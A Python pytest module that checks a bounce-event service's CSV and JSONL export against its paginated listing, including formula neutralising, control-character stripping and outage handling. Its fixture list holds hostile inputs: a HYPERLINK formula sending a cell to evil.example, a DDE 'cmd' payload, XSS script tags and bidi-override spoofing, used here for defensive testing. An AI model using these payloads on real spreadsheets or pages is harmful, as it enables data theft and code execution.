"""A listing as a file: exactly what the same query lists, whatever strangers wrote, however long it is."""

import csv
import io
import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from http.client import IncompleteRead
from typing import Any
from urllib.parse import urlencode

import pytest

from bounced.errors import StoreDown
from bounced.model import Category, Event, Fault, Kind, Reason, Tags
from bounced.serve import exported
from bounced.spreadsheet import FORMULA
from bounced.store import EventQuery
from tests.serve.conftest import Service
from tests.store.conftest import event

NOW = datetime(2026, 11, 21, 12, tzinfo=UTC)
EVIL = [
    '=HYPERLINK("http://evil.example?"&A1;"open")',
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\u202egpj.exe\u2066 \u200b\x1b[31m\r\n=1+1",
    "+1;=cmd|' /C calc'!A0",
    '@SUM(1)","=1',
    "-2+3\t\x00",
]
QUERIES: list[dict[str, str]] = [
    {},
    {"failed": "true"},
    {"category": "hard", "order": "oldest"},
    {"category": "soft", "provider": "google"},
    {"category": "complaint", "campaign": EVIL[0]},
    {"kind": "auto_reply"},
    {"reason": "mailbox_full", "fault": "recipient"},
    {"list": "news", "tag": "red"},
    {"tag": EVIL[3]},
    {"domain": "example.ORG", "begins": "User1"},
    {"rule": "full.prose"},
    {"mailbox": "bounces", "address": "user7@example.org"},
    {"since": "2026-11-21T11:00:00Z", "until": "2026-11-21T11:30:00Z"},
    {"campaign": "there is none"},
]


def scenario() -> Iterator[Event]:
    """Yield 240 events of four hours, of every category, some as evil as can be."""
    for n in range(240):
        one = event(n, NOW - timedelta(minutes=n), provider=("google", "yahoo", None)[n % 3])
        if n % 5 == 1:
            full = {"category": Category.SOFT, "reason": Reason.MAILBOX_FULL, "rule": "full.prose"}
            one = replace(one, **full, tags=Tags("autumn", "news", ("red", "blue")))  # type: ignore[arg-type]
        if n % 5 == 2:
            abuse = {"kind": Kind.COMPLAINT, "category": Category.COMPLAINT, "reason": Reason.ABUSE}
            one = replace(one, **abuse, tags=Tags(EVIL[0], EVIL[1], tuple(EVIL[2:])))  # type: ignore[arg-type]
        if n % 5 == 3:
            one = replace(one, kind=Kind.AUTO_REPLY, category=None, reason=None, fault=Fault.NONE)
        if n % 5 == 4:
            address = f"=user{n}+{EVIL[5][:4]}@example.org"
            one = replace(one, diagnostic=EVIL[n % 6], subject=EVIL[n % 5], address=address, matched=EVIL[0])
        yield replace(one, superseded_by="ev_other") if n == 100 else one


@pytest.fixture(scope="module")
def told(shared: Service) -> Service:
    with shared.store.begin() as tx:
        tx.record(list(scenario()))
    return shared


def listed(service: Service, query: dict[str, str]) -> list[dict[str, Any]]:
    """Return what `/v1/events` lists, page by page."""
    found: list[dict[str, Any]] = []
    cursor: str | None = ""
    while cursor is not None:
        more = {"cursor": cursor} if cursor else {}
        page = service.call("GET", f"/v1/events?{urlencode(query | more | {'limit': '37'})}", token="read").json
        found, cursor = found + page["items"], page["next"]
    return found


def export(service: Service, query: dict[str, str], form: str) -> Any:
    said = service.call("GET", f"/v1/events/export?{urlencode(query | {'format': form})}", token="read")
    assert said.status == 200, said.body
    assert said.headers["content-type"] == {"csv": "text/csv; charset=utf-8", "jsonl": "application/x-ndjson"}[form]
    assert said.headers["content-disposition"].startswith('attachment; filename="events-')
    text = said.body.decode()
    if form == "jsonl":
        return [json.loads(line) for line in text.splitlines()]
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("query", QUERIES, ids=lambda query: " ".join(query))
def test_store_listing_and_files_agree(told: Service, query: dict[str, str]) -> None:
    """To the unit, in the same order, and to every octet in the form that keeps it."""
    items = listed(told, query)

    assert export(told, query, "jsonl") == items
    assert [row["id"] for row in export(told, query, "csv")] == [item["id"] for item in items]
    if set(query) <= {"category", "order"} and query:
        asked = EventQuery(category=query["category"], oldest=True)
        assert [item["id"] for item in items] == [each.id for each in told.store.events(asked)]


def test_the_figures_of_the_scenario(told: Service) -> None:
    """As they follow from how it was made; the one that was superseded counts nowhere."""
    wanted = {"hard": 48 * 2 - 1, "soft": 48, "complaint": 48}

    assert {c: len(export(told, {"category": c}, "csv")) for c in wanted} == wanted
    assert len(export(told, {"failed": "true"}, "csv")) == sum(wanted.values())
    assert len(export(told, {}, "csv")) == 239
    assert len(export(told, {"superseded": "true"}, "csv")) == 240


@pytest.mark.parametrize("separator", [",", ";"])
def test_no_cell_acts(told: Service, separator: str) -> None:
    """Neither where a comma separates nor, as spreadsheets have it in half of Europe, a semicolon."""
    text = told.call("GET", "/v1/events/export?format=csv", token="read").body.decode()

    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA)]
    assert not {"\u202e", "\u2066", "\u200b", "\x1b", "\x00"} & set(text)


def test_an_outage_half_way_is_no_end(told: Service, monkeypatch: pytest.MonkeyPatch) -> None:
    """Who downloads sees that the file is not whole."""
    monkeypatch.setattr(exported, "_STEP", 50)
    monkeypatch.setattr("bounced.store.events._PAGE", 50)
    monkeypatch.setattr(told.store, "_page_of_events", _failing(told.store._page_of_events, 3))

    with pytest.raises(IncompleteRead):
        told.call("GET", "/v1/events/export", token="read")


def test_an_outage_at_the_beginning_says_so(told: Service, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(told.store, "_page_of_events", _failing(told.store._page_of_events, 0))

    assert told.call("GET", "/v1/events/export", token="read").status == 503


def _failing(read: Callable[..., Any], good: int) -> Callable[..., Any]:
    """Return what reads so many pages and then finds the database gone."""
    left = iter(range(good))

    def reads(*asked: Any) -> Any:
        if next(left, None) is None:
            raise StoreDown("gone")
        return read(*asked)

    return reads
